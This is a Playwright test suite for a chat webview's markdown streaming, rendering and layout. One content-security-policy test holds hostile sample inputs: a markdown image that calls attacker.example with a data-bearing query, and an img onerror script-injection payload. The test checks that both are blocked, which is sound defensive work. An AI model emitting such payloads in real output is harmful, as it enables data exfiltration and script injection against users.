import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { after, before, describe, it } from 'node:test';
import MarkdownIt from 'markdown-it';
import type { Browser, Page } from 'playwright-core';
import type { TurnView } from '../../src/shared/protocol';
import { launchChromium, repoRoot } from '../runner/codeServer';
import { init, openWebview, strings, type WebviewPage } from './harness';

const screenshotDir = path.join(repoRoot, 'test-results/screenshots');
let browser: Browser;
before(async () => {
  browser = await launchChromium();
});
after(() => browser.close());

const turn = (id: string, extra: Partial<TurnView> = {}): TurnView => ({
  id,
  question: '질문',
  context: [],
  answer: '',
  reasoning: '',
  status: 'streaming',
  ...extra,
});

/**
 * A turn's rendered answer as markup without the panel's own wrappers (its parts and groups) and
 * without whitespace between tags, to compare with what one render of the whole answer makes.
 */
function renderedMarkup(page: Page, id: string): Promise<string> {
  return page.evaluate((turnId) => {
    const out: string[] = [];
    const walk = (node: Element) => {
      for (const child of Array.from(node.children)) {
        if (child.tagName === 'DIV' && !child.classList.contains('code-block')) walk(child);
        else out.push(child.outerHTML);
      }
    };
    walk(document.querySelector(`.turn[data-id="${turnId}"] .content`) as Element);
    return out.join('').replace(/>\s+</g, '><');
  }, id);
}

/**
 * Sends `answer` in `size`-character deltas, a few per frame, then (with `end`) ends the turn;
 * resolves once rendered.
 */
async function streamInPage(
  page: Page,
  id: string,
  answer: string,
  size: number,
  perFrame: number,
  end = true,
): Promise<void> {
  await page.evaluate(
    async ([turnId, text, step, batch, done]) => {
      const send = (data: unknown) => window.dispatchEvent(new MessageEvent('message', { data }));
      for (let i = 0; i < text.length; i += step * batch) {
        for (let j = i; j < Math.min(i + step * batch, text.length); j += step) {
          send({ type: 'delta', requestId: turnId, content: text.slice(j, j + step), reasoning: '' });
        }
        await new Promise((resolve) => requestAnimationFrame(resolve));
      }
      if (done) send({ type: 'turnDone', requestId: turnId, status: 'done' });
      const content = document.querySelector(`.turn[data-id="${turnId}"] .content`) as HTMLElement;
      while (content.hasAttribute('data-pending')) await new Promise((resolve) => requestAnimationFrame(resolve));
    },
    [id, answer, size, perFrame, end] as const,
  );
}

/** Equal markup, or a failure that shows where the two first differ (they are long). */
function assertSameMarkup(actual: string, expected: string): void {
  if (actual === expected) return;
  let at = 0;
  while (at < Math.min(actual.length, expected.length) && actual[at] === expected[at]) at++;
  assert.fail(
    `markup differs at ${at} of ${expected.length}:\n  shown:    …${actual.slice(Math.max(0, at - 120), at + 120)}\n  expected: …${expected.slice(Math.max(0, at - 120), at + 120)}`,
  );
}

async function ready(): Promise<WebviewPage> {
  const view = await openWebview(browser);
  await view.host(init());
  return view;
}

describe('the chat webview in a real browser', () => {
  it('says ready first, then shows the empty state', async () => {
    const view = await ready();
    assert.deepEqual((await view.posted())[0], { type: 'ready' });
    await view.page.getByText(strings.emptyTitle).waitFor();
    await view.page.close();
  });

  it('shows a served snapshot path by a readable name, the full id in the tooltip', async () => {
    const view = await ready();
    const id = '/model/snapshots/9eb2daaa8597bf192a8b0e73f848f3a102794df5';
    await view.host({ type: 'model', model: id });
    const button = view.page.locator('button.model');
    await view.page.waitForFunction(() => document.querySelector('button.model')?.textContent?.includes('(9eb2daa)'));
    assert.equal(await button.textContent(), `${strings.modelLabel}: model (9eb2daa)`);
    assert.equal(await button.getAttribute('title'), `${strings.chooseModel} (${id})`);
    await view.page.close();
  });

  it('keeps Send and Stop on screen at narrow widths, with the gauge saying what is sent and what is left out', async () => {
    for (const width of [220, 300]) {
      const view = await ready();
      await view.page.setViewportSize({ width, height: 600 });
      await view.host({ type: 'budget', tokens: 8000, window: 4096, factor: 1, omitted: 12 });
      await view.page.waitForFunction(() =>
        document.querySelector('.gauge')?.textContent?.includes('12 earlier turns left out'),
      );
      for (const streamingNow of [false, true]) {
        if (streamingNow) {
          await view.page.fill('textarea.input', '질문');
          await view.page.keyboard.press('Enter');
          const sent = (await view.posted()).find((m) => m.type === 'send');
          await view.host({
            type: 'turnStarted',
            turn: turn('r1', { question: '질문' }),
            clientId: sent?.type === 'send' ? sent.clientId : undefined,
          });
          await view.page.waitForFunction(() => document.querySelector('button.send')?.classList.contains('stop'));
        }
        const box = await view.page.locator('button.send').boundingBox();
        assert.ok(
          box && box.x >= 0 && box.x + box.width <= width,
          `${streamingNow ? 'Stop' : 'Send'} at ${width} px: ${JSON.stringify(box)}`,
        );
        const visible = await view.page.locator('button.send').isVisible();
        assert.ok(visible);
      }
      const gaugeBox = await view.page.locator('.gauge').boundingBox();
      assert.ok(gaugeBox && gaugeBox.x + gaugeBox.width <= width, `the gauge stays inside at ${width} px`);
      fs.mkdirSync(screenshotDir, { recursive: true });
      await view.page.screenshot({ path: path.join(screenshotDir, `composer-${width}.png`) });
      await view.page.close();
    }
  });

  it('runs under the production CSP: answers render, and only a remote image is refused', async () => {
    const view = await openWebview(browser, undefined, { csp: true });
    await view.host(init());
    const answer = [
      '## 표와 코드',
      '',
      '| a | b |',
      '|---|---|',
      '| 1 | 2 |',
      '',
      '```ts',
      'const x: number = 1;',
      '```',
      '',
      '- [링크](https://genos.example.com) 와 [메일](mailto:dev@example.com)',
      '',
      '![원격](https://attacker.example/p.png?c=code)',
      '',
      '<img src=x onerror="window.__pwned=1">',
    ].join('\n');
    await view.host({ type: 'turnStarted', turn: turn('c1') });
    await view.host({ type: 'delta', requestId: 'c1', content: answer, reasoning: '' });
    await view.host({ type: 'turnDone', requestId: 'c1', status: 'done' });
    await view.page
      .locator('.turn[data-id="c1"] .content pre code .hljs-keyword, .turn[data-id="c1"] .content pre code span')
      .first()
      .waitFor();
    await view.page.locator('.turn[data-id="c1"] .content table').waitFor();
    const violations = await view.page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
    assert.deepEqual(
      violations.filter((v) => !/^img-src https:\/\/attacker\.example/.test(v)),
      [],
      'no script, style or font was refused: the panel works under its policy',
    );
    assert.equal(await view.page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned), undefined);
    await view.page.close();
  });

  it('warms up while it waits for the host, without errors and without leaving anything behind', async () => {
    // No init: the host has not answered yet when the panel is idle (a slow window, a busy host).
    const view = await openWebview(browser);
    const errors: string[] = [];
    view.page.on('pageerror', (error) => errors.push(error.message));
    await view.page.waitForFunction(() => document.documentElement.hasAttribute('data-warm'));
    assert.deepEqual(errors, []);
    assert.equal(await view.page.locator('.warm-up, [data-pending], [data-highlighting]').count(), 0);
    // The host answers late: the panel works as usual.
    await view.host(init());
    await view.host({ type: 'turnStarted', turn: turn('w1') });
    await view.host({ type: 'delta', requestId: 'w1', content: '```python\nprint(1)\n```', reasoning: '' });
    await view.host({ type: 'turnDone', requestId: 'w1', status: 'done' });
    await view.page.locator('.turn .code-actions .copy', { hasText: strings.copy }).waitFor();
    await view.page.close();
  });

  it('shows streamed text before the stream ends, and renders markdown with Korean intact', async () => {
    const view = await ready();
    const { page } = view;
    await view.host({ type: 'turnStarted', turn: turn('t1', { question: '마크다운 예제를 보여 줘' }) });
    const answer =
      '## 제목 Heading\n\n- 첫째 **굵게**\n- 둘째 `인라인 코드`\n\n```ts\nconst 인사 = "안녕하세요";\n```\n\n마지막 문단입니다.';
    const half = Math.floor(answer.length / 2);
    for (let i = 0; i < half; i += 3) {
      await view.host({
        type: 'delta',
        requestId: 't1',
        content: answer.slice(i, Math.min(i + 3, half)),
        reasoning: '',
      });
    }
    // Part of the answer is on screen while the stream is still open.
    await page.locator('.turn .content h2', { hasText: '제목 Heading' }).waitFor();
    assert.equal(await page.locator('.turn.streaming').count(), 1);
    for (let i = half; i < answer.length; i += 3) {
      await view.host({ type: 'delta', requestId: 't1', content: answer.slice(i, i + 3), reasoning: '' });
    }
    await view.host({
      type: 'turnDone',
      requestId: 't1',
      status: 'done',
      usage: { promptTokens: 10, completionTokens: 20, totalTokens: 30 },
      model: 'Qwen3-8B',
    });
    // Text renders over the next frames, and highlighting after it, in what is left of them.
    await page.locator('.turn .content:not([data-pending]):not([data-highlighting])').waitFor();

    const content = page.locator('.turn .content');
    assert.equal(await content.locator('ul li').count(), 2);
    assert.equal(await content.locator('strong').textContent(), '굵게');
    assert.equal(await content.locator('p code, li code').first().textContent(), '인라인 코드');
    assert.equal(await content.locator('pre code').textContent(), 'const 인사 = "안녕하세요";\n');
    assert.ok((await content.locator('pre code .hljs-keyword').count()) > 0, 'code is highlighted');
    assert.match((await content.textContent()) ?? '', /마지막 문단입니다\./);
    await page.getByText('10 prompt + 20 answer tokens').waitFor();
    assert.equal(await page.locator('.turn.streaming').count(), 0);
    await page.close();
  });

  it('renders reference-style links and images as the whole answer would, streamed or restored', async () => {
    const answer =
      'See the [docs][d] and ![logo][img].\n\nA second paragraph with [another][D] use.\n\n[d]: https://genos.example.com/docs "Docs"\n[img]: https://genos.example.com/logo.png';
    const check = async (page: WebviewPage['page'], id: string) => {
      const content = page.locator(`.turn[data-id="${id}"] .content`);
      assert.equal(await content.locator('a[href="https://genos.example.com/docs"]').count(), 2);
      assert.equal(await content.locator('a[href="https://genos.example.com/docs"]').first().textContent(), 'docs');
      assert.equal(await content.locator('img[alt="logo"]').getAttribute('src'), 'https://genos.example.com/logo.png');
      assert.doesNotMatch((await content.textContent()) ?? '', /\[docs\]|\[d\]:|\[another\]/);
    };
    const view = await ready();
    await view.host({ type: 'turnStarted', turn: turn('r1') });
    for (let i = 0; i < answer.length; i += 3) {
      await view.host({ type: 'delta', requestId: 'r1', content: answer.slice(i, i + 3), reasoning: '' });
    }
    await view.host({ type: 'turnDone', requestId: 'r1', status: 'done' });
    await check(view.page, 'r1');
    await view.page.close();

    const reopened = await openWebview(browser);
    await reopened.host(init({ turns: [turn('r2', { answer, status: 'done' })] }));
    await check(reopened.page, 'r2');
    await reopened.page.close();
  });

  it('streams a code block of a thousand lines line by line: every line, in order, highlighted', async () => {
    const code = Array.from({ length: 1000 }, (_, i) =>
      i % 25 === 0
        ? `export function step${i}(value: number): number {`
        : `  const line${i} = value * ${i}; // 줄 ${i}`,
    ).join('\n');
    const answer = `Here is the file:\n\`\`\`typescript\n${code}\n\`\`\`\nDone.`;
    const view = await ready();
    const { page } = view;
    await view.host({ type: 'turnStarted', turn: turn('c1') });
    await page.evaluate(
      (text) => {
        for (let i = 0; i < text.length; i += 50) {
          window.dispatchEvent(
            new MessageEvent('message', {
              data: { type: 'delta', requestId: 'c1', content: text.slice(i, i + 50), reasoning: '' },
            }),
          );
        }
      },
      answer.slice(0, answer.length / 2),
    );
    // Half-way, the block shows what arrived, while the rest is still streaming.
    await page.waitForFunction(
      (expected) => document.querySelector('.turn .content pre')?.textContent === expected,
      answer.slice(0, answer.length / 2).split('typescript\n')[1],
    );
    for (let i = answer.length / 2; i < answer.length; i += 5000) {
      await view.host({ type: 'delta', requestId: 'c1', content: answer.slice(i, i + 5000), reasoning: '' });
    }
    await view.host({ type: 'turnDone', requestId: 'c1', status: 'done' });
    await page.locator('.turn .content:not([data-pending])').waitFor();
    assert.equal(await page.locator('.turn .content pre').count(), 1);
    assert.equal(await page.locator('.turn .content pre').textContent(), `${code}\n`);
    // Highlighting follows the text, in what is left of the frames.
    await page.locator('.turn .content:not([data-highlighting])').waitFor();
    assert.equal(await page.locator('.turn .content .hljs-keyword', { hasText: 'export' }).count(), 40);
    // Segments are blocks, yet the lines are laid out as one text: no blank line after a segment.
    const heights = await page.evaluate(async () => {
      const segments = document.querySelectorAll('.turn .content pre .segment');
      segments[1].scrollIntoView();
      await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
      const lineHeight = parseFloat(getComputedStyle(segments[1]).lineHeight);
      return [0, 1].map((i) => Math.round(segments[i].getBoundingClientRect().height / lineHeight));
    });
    assert.deepEqual(heights, [20, 20]);
    assert.equal(await page.locator('.turn .content p').first().textContent(), 'Here is the file:');
    assert.equal(await page.locator('.turn .content p').last().textContent(), 'Done.');
    await page.close();
  });

  it("keeps a small streamed block's highlighted segments, and highlights it again whole when a comment crossed them", async () => {
    const view = await ready();
    const { page } = view;
    /** Streams a 30-line block: its first segment (20 lines) is highlighted before the rest arrives. */
    const stream = async (id: string, lines: string[]) => {
      await view.host({ type: 'turnStarted', turn: turn(id) });
      const content = page.locator('.turn').last().locator('.content');
      await view.host({
        type: 'delta',
        requestId: id,
        content: `\`\`\`typescript\n${lines.slice(0, 21).join('\n')}\n`,
        reasoning: '',
      });
      await content.locator('.segment .hljs-keyword').first().waitFor();
      await page.waitForFunction(() => !document.querySelector('.turn:last-of-type .content[data-highlighting]'));
      await view.host({
        type: 'delta',
        requestId: id,
        content: `${lines.slice(21).join('\n')}\n\`\`\`\n`,
        reasoning: '',
      });
      await view.host({ type: 'turnDone', requestId: id, status: 'done' });
      await page.waitForFunction(
        () => !document.querySelector('.turn:last-of-type .content:is([data-pending], [data-highlighting])'),
      );
      return content.locator('pre');
    };
    const plain = Array.from({ length: 30 }, (_, i) => `const line${i} = ${i};`);
    const kept = await stream('h1', plain);
    assert.equal(await kept.locator('.segment').count(), 2);
    assert.equal(await kept.locator('.hljs-keyword', { hasText: 'const' }).count(), 30);
    // Lines 15 to 24 are a comment that crosses the first segment's end: coloured as one comment.
    const commented = plain.map((line, i) => (i === 15 ? `/* ${line}` : i === 24 ? `${line} */` : line));
    const whole = await stream('h2', commented);
    assert.equal(await whole.locator('.segment').count(), 0);
    assert.equal(await whole.locator('.hljs-keyword', { hasText: 'const' }).count(), 20);
    assert.equal(await whole.textContent(), `${commented.join('\n')}\n`);
    await page.close();
  });

  it('renders small blocks that arrive whole with the text around them, and writes a block that arrives line by line as it comes', async () => {
    const view = await ready();
    const { page } = view;
    await view.host({ type: 'turnStarted', turn: turn('w1') });
    // In one burst: a fence right after a paragraph line (it interrupts the paragraph), one after
    // a list, each block complete; then a large block, written in segments still.
    const long = Array.from({ length: 400 }, (_, i) => `value_${i} = compute(${i})  # ${i}`).join('\n');
    const burst = `Read it:\n\`\`\`python\ndef f(a):\n    return a  # 설명\n\`\`\`\n- item\n\n\`\`\`typescript\nconst x: number = 1;\n\`\`\`\nAfter.\n\n\`\`\`python\n${long}\n\`\`\`\n`;
    await view.host({ type: 'delta', requestId: 'w1', content: burst, reasoning: '' });
    const content = page.locator('.turn .content');
    await page.waitForFunction(
      () =>
        document.querySelectorAll('.turn .content pre').length === 3 &&
        !document.querySelector('.turn .content:is([data-pending], [data-highlighting])'),
    );
    assert.deepEqual(
      await content.locator('pre').evaluateAll((pres) => pres.map((pre) => pre.querySelectorAll('.segment').length)),
      [0, 0, 20],
    );
    assert.deepEqual(await content.locator('pre').allTextContents(), [
      'def f(a):\n    return a  # 설명\n',
      'const x: number = 1;\n',
      `${long}\n`,
    ]);
    assert.deepEqual(await content.locator('pre').nth(0).locator('.hljs-keyword').allTextContents(), ['def', 'return']);
    assert.deepEqual(await content.locator('pre').nth(1).locator('.hljs-keyword').allTextContents(), ['const']);
    assert.equal(await content.locator('p').first().textContent(), 'Read it:');
    assert.equal(await content.locator('li').textContent(), 'item');
    // A block whose lines arrive over several frames shows each as it comes, and ends highlighted.
    await view.host({ type: 'delta', requestId: 'w1', content: '```typescript\n', reasoning: '' });
    for (const line of ['let y = 2;', 'y += 1;']) {
      await view.host({ type: 'delta', requestId: 'w1', content: `${line}\n`, reasoning: '' });
      await page.waitForFunction(
        (text) => document.querySelectorAll('.turn .content pre')[3]?.textContent?.includes(text),
        line,
      );
    }
    await view.host({ type: 'delta', requestId: 'w1', content: '```\nEnd.', reasoning: '' });
    await view.host({ type: 'turnDone', requestId: 'w1', status: 'done' });
    await page.waitForFunction(() => !document.querySelector('.turn .content:is([data-pending], [data-highlighting])'));
    const last = content.locator('pre').nth(3);
    assert.equal(await last.locator('.segment').count(), 1);
    assert.equal(await last.textContent(), 'let y = 2;\ny += 1;\n');
    assert.deepEqual(await last.locator('.hljs-keyword').allTextContents(), ['let']);
    assert.equal(await content.locator('p').last().textContent(), 'End.');
    await page.close();
  });

  it("reopens a large conversation whole: newest turn first, every turn's text in the end", async () => {
    const turns = Array.from({ length: 50 }, (_, t) => {
      const block = Array.from({ length: 300 }, (_, i) => `    value_${t}_${i} = compute(${i})  # 설명 ${i}`).join(
        '\n',
      );
      const answer = `## 답변 ${t}\n\n설명 문단 ${t}.\n\n\`\`\`python\ndef answer_${t}():\n${block}\n\`\`\`\n\n- 끝 ${t}\n- end-of-turn-${t}`;
      return turn(`big${t}`, { question: `질문 ${t}`, answer, status: 'done' });
    });
    const view = await openWebview(browser);
    const { page } = view;
    await page.evaluate(() => {
      const w = window as unknown as { __rendered: string[] };
      w.__rendered = [];
      new MutationObserver((records) => {
        for (const record of records) {
          const target = record.target as HTMLElement;
          if (target.classList.contains('content') && !target.hasAttribute('data-pending')) {
            w.__rendered.push(target.closest('.turn')?.getAttribute('data-id') ?? '');
          }
        }
      }).observe(document.body, { subtree: true, attributes: true, attributeFilter: ['data-pending'] });
    });
    await view.host(init({ turns }));
    await page.waitForFunction(
      () => document.querySelectorAll('.turn').length === 50 && !document.querySelector('[data-pending]'),
      undefined,
      { timeout: 60_000 },
    );
    for (const [t, { answer }] of turns.entries()) {
      const content = page.locator(`.turn[data-id="big${t}"] .content`);
      assert.equal(await content.locator('pre').textContent(), `${answer.split('```python\n')[1].split('\n```')[0]}\n`);
      assert.equal(await content.locator('li').last().textContent(), `end-of-turn-${t}`);
    }
    const order = await page.evaluate(() => (window as unknown as { __rendered: string[] }).__rendered);
    assert.deepEqual(order.slice(0, 3), ['big49', 'big48', 'big47']);
    await page.close();
  });

  it('streams long lists and tables in parts that join them: the same markup as one render of the whole', async () => {
    const bullets = Array.from(
      { length: 90 },
      (_, i) => `- 항목 ${i}: **굵게** \`code${i}\` text${i % 10 === 0 ? `\n  - nested ${i}\n    more of ${i}` : ''}`,
    ).join('\n');
    const ordered = ['3. first', ...Array.from({ length: 80 }, (_, i) => `1. step ${i} — 단계 ${i}`)].join('\n');
    const rows = Array.from({ length: 70 }, (_, i) =>
      i % 7 === 3 ? `| ${i} | only two |` : `| ${i} | \`src/h${i}.ts\` | 입력 *검증* ${i} | a \\| b |`,
    ).join('\n');
    const switching = [
      ...Array.from({ length: 40 }, (_, i) => `- dash item number ${i}`),
      ...Array.from({ length: 40 }, (_, i) => `* star item number ${i}`),
    ].join('\n');
    const lazy = Array.from(
      { length: 60 },
      (_, i) => `- lazy item ${i}${i % 9 === 4 ? `\ncontinued lazily ${i}` : ''}`,
    ).join('\n');
    const loose = [
      '- loose a',
      '',
      '  its second paragraph',
      ...Array.from({ length: 150 }, (_, i) => `- loose item ${i}`),
    ].join('\n');
    // Not lists or tables: numbers after a paragraph (only 1 may start a list there), and a head
    // whose delimiter row has another number of columns.
    const prose = ['Numbers in prose:', ...Array.from({ length: 60 }, (_, i) => `${i + 2}. is not an item ${i}`)].join(
      '\n',
    );
    const notTable = [
      '| a | b |',
      '| - | - | - |',
      ...Array.from({ length: 60 }, (_, i) => `| not a row ${i} | ${i} |`),
    ].join('\n');
    const referenced = [
      '- see [the docs][d] first',
      ...Array.from({ length: 60 }, (_, i) => `- then item ${i} [twice][d]`),
    ].join('\n');
    const answer = [
      `Findings:\n${bullets}\nAfter the list, no blank line.`,
      ordered,
      `| # | 파일 | 문제 | pipe |\n| ---: | --- | --- | :---: |\n${rows}\n+ a list right under the table`,
      switching,
      lazy,
      loose,
      prose,
      notTable,
      referenced,
      '끝.\n\n[d]: https://genos.example.com/docs',
    ].join('\n\n사이 문단 (a paragraph between).\n\n');
    // One render of the whole answer, as markdown-it makes it (the panel drops style attributes).
    const expected = new MarkdownIt({ html: false, linkify: true, breaks: false })
      .render(answer)
      .replace(/ style="[^"]*"/g, '')
      .replace(/>\s+</g, '><')
      .trim();
    assert.ok(answer.length > 10_000, `${answer.length}`);

    const view = await ready();
    await view.host({ type: 'turnStarted', turn: turn('j1') });
    await streamInPage(view.page, 'j1', answer, 5, 12);
    assertSameMarkup(await renderedMarkup(view.page, 'j1'), expected);
    // Each list and table is one element, as in one render.
    assert.equal(await view.page.locator('.turn[data-id="j1"] .content table').count(), 1);
    await view.page.close();

    const reopened = await openWebview(browser);
    await reopened.host(init({ turns: [turn('j2', { answer, status: 'done' })] }));
    await reopened.page.waitForFunction(() => !document.querySelector('[data-pending]'));
    assertSameMarkup(await renderedMarkup(reopened.page, 'j2'), expected);
    await reopened.page.close();
  });

  it('numbers an ordered list as written when blank lines cut it into parts', async () => {
    const answer = '1. **첫째** (first)\n\n   설명 문단.\n\n2. **둘째** (second)\n\n3. 셋째 (third)\n';
    const view = await ready();
    await view.host({ type: 'turnStarted', turn: turn('n1') });
    await streamInPage(view.page, 'n1', answer, 3, 2);
    // The number each item shows: its list's first number, counted on.
    const numbers = await view.page.evaluate(() =>
      Array.from(document.querySelectorAll('.turn .content li')).map((item) => {
        const list = item.parentElement as HTMLOListElement;
        return list.start + Array.from(list.children).indexOf(item);
      }),
    );
    assert.deepEqual(numbers, [1, 2, 3]);
    await view.page.close();
  });

  it('never renders again the items and rows already shown of a list or table being written', async () => {
    const list = Array.from(
      { length: 450 },
      (_, i) => `1. 항목 ${i}: \`handler${i}\`에서 **입력 검증**이 빠졌습니다`,
    ).join('\n');
    const table = [
      '| # | 파일 (file) | 문제 (issue) |',
      '| --- | --- | --- |',
      ...Array.from({ length: 300 }, (_, i) => `| ${i} | \`src/h${i}.ts\` | 입력 검증 누락 ${i} |`),
    ].join('\n');
    const view = await ready();
    const { page } = view;
    await view.host({ type: 'turnStarted', turn: turn('k1') });
    const result = await page.evaluate(
      async ([text]) => {
        const content = document.querySelector('.turn .content') as HTMLElement;
        const send = (delta: string) =>
          window.dispatchEvent(
            new MessageEvent('message', { data: { type: 'delta', requestId: 'k1', content: delta, reasoning: '' } }),
          );
        const frame = () => new Promise((resolve) => requestAnimationFrame(resolve));
        // The first item and row are caught once the list or table has grown past its first part
        // (until then they are in the part being written, rendered again as it grows); each must
        // then stay the same node to the end.
        let firstItem: Element | null = null;
        let firstRow: Element | null = null;
        let replaced = 0;
        for (let i = 0; i < text.length; i += 7 * 30) {
          for (let j = i; j < Math.min(i + 7 * 30, text.length); j += 7) send(text.slice(j, j + 7));
          await frame();
          const item = content.querySelectorAll('li').length > 60 ? content.querySelector('li') : null;
          const row = content.querySelectorAll('tbody tr').length > 60 ? content.querySelector('tbody tr') : null;
          if (firstItem && item !== firstItem) replaced++;
          if (firstRow && row !== firstRow) replaced++;
          firstItem = firstItem ?? item;
          firstRow = firstRow ?? row;
        }
        window.dispatchEvent(
          new MessageEvent('message', { data: { type: 'turnDone', requestId: 'k1', status: 'done' } }),
        );
        while (content.hasAttribute('data-pending')) await frame();
        const tables = Array.from(content.querySelectorAll('table'));
        const rows = tables.flatMap((element) => Array.from(element.tBodies[0].rows));
        const columns = (element: HTMLTableElement) =>
          Array.from(element.querySelectorAll('col'), (col) => col.style.width).join(' ');
        return {
          replaced,
          sameItem: content.querySelector('li') === firstItem,
          sameRow: content.querySelector('tbody tr') === firstRow,
          // Items in long lists, and the number each shows.
          lists: Array.from(content.querySelectorAll('ol'), (element) => element.children.length),
          numbers: Array.from(
            content.querySelectorAll('li'),
            (item) =>
              (item.parentElement as HTMLOListElement).start +
              Array.from(item.parentElement?.children ?? []).indexOf(item),
          ).every((number, i) => number === i + 1),
          tables: tables.map((element) => element.tBodies[0].rows.length),
          rows: rows.map((row) => row.cells[0].textContent).every((text, i) => text === String(i)),
          lastRow: rows[299]?.textContent?.replace(/\s*\n\s*/g, '|'),
          // Continued below with the same columns, fixed.
          layout: tables.map((element) => element.style.tableLayout),
          // Three shares of the table's width, read off its columns as first laid out.
          sameColumns: tables.every((element) => columns(element) === columns(tables[0])),
          columnText: columns(tables[0]),
          shares: columns(tables[0])
            .split(' ')
            .map((width) => (/^\d+(\.\d+)?%$/.test(width) ? Number.parseFloat(width) : Number.NaN)),
        };
      },
      [`${list}\n\n${table}`] as const,
    );
    assert.equal(result.replaced, 0);
    assert.ok(result.sameItem && result.sameRow);
    // Split into elements of at least 100, each continuing the one before.
    const split = (counts: number[]) => counts.length >= 2 && counts.slice(0, -1).every((count) => count >= 100);
    assert.equal(
      result.lists.reduce((sum, count) => sum + count, 0),
      450,
    );
    assert.ok(split(result.lists), `lists of ${result.lists}`);
    assert.ok(result.numbers);
    assert.equal(
      result.tables.reduce((sum, count) => sum + count, 0),
      300,
    );
    assert.ok(split(result.tables), `tables of ${result.tables}`);
    assert.ok(result.rows);
    assert.equal(result.lastRow, '|299|src/h299.ts|입력 검증 누락 299|');
    assert.ok(
      result.layout.every((layout) => layout === 'fixed'),
      `${result.layout}`,
    );
    assert.ok(result.sameColumns);
    assert.equal(result.shares.length, 3, JSON.stringify(result));
    assert.ok(
      result.shares.every((share) => share > 3) &&
        Math.abs(result.shares.reduce((sum, share) => sum + share, 0) - 100) < 1,
      `${result.shares}`,
    );
    await page.close();
  });

  it('keeps a long table drawn as one when a later link definition renders its first rows again', async () => {
    const rows = Array.from({ length: 260 }, (_, i) => `| ${i} | ${i === 0 ? 'see [the docs][d]' : `row ${i}`} |`).join(
      '\n',
    );
    const answer = `| # | 설명 |\n| --- | --- |\n${rows}\n\n[d]: https://genos.example.com/docs`;
    const view = await ready();
    await view.host({ type: 'turnStarted', turn: turn('t9') });
    await streamInPage(view.page, 't9', answer, 7, 40);
    const tables = await view.page.evaluate(() =>
      Array.from(document.querySelectorAll('.turn .content table'), (table) => ({
        columns: Array.from(
          table.querySelectorAll(':scope > colgroup > col'),
          (col) => (col as HTMLElement).style.width,
        ).join(' '),
        layout: (table as HTMLElement).style.tableLayout,
        link: table.querySelector('a')?.getAttribute('href') ?? null,
        rows: (table as HTMLTableElement).tBodies[0].rows.length,
      })),
    );
    assert.ok(tables.length >= 2, JSON.stringify(tables));
    assert.equal(tables[0].link, 'https://genos.example.com/docs');
    assert.equal(
      tables.reduce((sum, table) => sum + table.rows, 0),
      260,
    );
    assert.ok(
      tables.every((table) => table.layout === 'fixed'),
      JSON.stringify(tables),
    );
    assert.ok(
      tables[0].columns.split(' ').length === 2 && tables.every((table) => table.columns === tables[0].columns),
      JSON.stringify(tables),
    );
    await view.page.close();

    // Reopened below a long list: the columns read are still the table's own, a narrow one and a
    // wide one, in every part of it.
    const reopened = await openWebview(browser);
    const above = Array.from({ length: 300 }, (_, i) => `- 항목 ${i}: 표 위의 긴 목록입니다.`).join('\n');
    await reopened.host(init({ turns: [turn('t10', { answer: `${above}\n\n${answer}`, status: 'done' })] }));
    await reopened.page.waitForFunction(() => !document.querySelector('[data-pending]'));
    const shares = await reopened.page.evaluate(() =>
      Array.from(document.querySelectorAll('.turn .content table'), (table) =>
        Array.from(table.querySelectorAll(':scope > colgroup > col'), (col) =>
          Number.parseFloat((col as HTMLElement).style.width),
        ),
      ),
    );
    assert.ok(
      shares.length >= 2 &&
        shares.every(
          (widths) => widths.length === 2 && widths[0] < widths[1] && Math.abs(widths[0] + widths[1] - 100) < 1,
        ),
      JSON.stringify(shares),
    );
    await reopened.page.close();
  });

  it("reads a long table's columns only while the panel is shown", async () => {
    const rows = (from: number, to: number) =>
      Array.from({ length: to - from }, (_, i) => `| ${from + i} | row ${from + i} of a hidden table |`).join('\n');
    const view = await ready();
    await view.host({ type: 'turnStarted', turn: turn('h1') });
    // Hidden (the panel collapsed): nothing can be measured, so the table goes on as one.
    await view.page.evaluate(() => (document.body.style.display = 'none'));
    await streamInPage(view.page, 'h1', `| # | 설명 |\n| --- | --- |\n${rows(0, 150)}\n`, 7, 40, false);
    await view.page.evaluate(() => (document.body.style.display = ''));
    await streamInPage(view.page, 'h1', `${rows(150, 300)}\n`, 7, 40);
    const tables = await view.page.evaluate(() =>
      Array.from(document.querySelectorAll('.turn .content table'), (table) => ({
        rows: (table as HTMLTableElement).tBodies[0].rows.length,
        shares: Array.from(table.querySelectorAll(':scope > colgroup > col'), (col) =>
          Number.parseFloat((col as HTMLElement).style.width),
        ),
      })),
    );
    assert.ok(tables.length >= 2 && tables[0].rows > 130, JSON.stringify(tables));
    assert.ok(
      tables.every((table) => table.shares.length === 2 && Math.abs(table.shares[0] + table.shares[1] - 100) < 1),
      JSON.stringify(tables),
    );
    await view.page.close();
  });

  it('shows that GenOS is busy while the turn waits, until the answer arrives; Stop stays offered', async () => {
    const view = await ready();
    const { page } = view;
    await view.host({ type: 'turnStarted', turn: turn('w1') });
    await view.host({ type: 'waiting', requestId: 'w1', message: 'GenOS is busy (429). Trying again in 3 seconds…' });
    await page.locator('.turn .waiting', { hasText: 'Trying again in 3 seconds' }).waitFor();
    assert.equal(await page.locator('button.send').textContent(), strings.stop);
    await view.host({ type: 'delta', requestId: 'w1', content: '이제 답합니다', reasoning: '' });
    await page.locator('.turn .waiting').waitFor({ state: 'detached' });
    await view.host({ type: 'waiting', requestId: 'w1', message: 'again' });
    await view.host({ type: 'turnDone', requestId: 'w1', status: 'done' });
    assert.equal(await page.locator('.turn .waiting').count(), 0);
    await page.close();
  });

  it('offers attachments when @ is typed: letters narrow the list, Enter attaches, the @word goes', async () => {
    const view = await ready();
    const { page } = view;
    const input = page.locator('textarea');
    await input.click();
    await input.pressSequentially('이 파일 좀 봐 줘 @');
    const menu = page.locator('.mention-menu');
    await menu.locator('.mention', { hasText: '@terminal' }).waitFor();
    assert.equal(await menu.locator('.mention').count(), 7);
    await input.pressSequentially('prob');
    assert.deepEqual(await menu.locator('.mention').allTextContents(), [
      strings.mentions.problems,
      strings.mentions.workspaceProblems,
    ]);
    for (let i = 0; i < 'prob'.length; i++) await input.press('Backspace');
    await input.pressSequentially('fi');
    assert.equal(await menu.locator('.mention').first().textContent(), strings.mentions.files, '@fi means @file first');
    for (let i = 0; i < 2; i++) await input.press('Backspace');
    await input.pressSequentially('prob');
    await input.press('ArrowDown');
    await input.press('Enter');
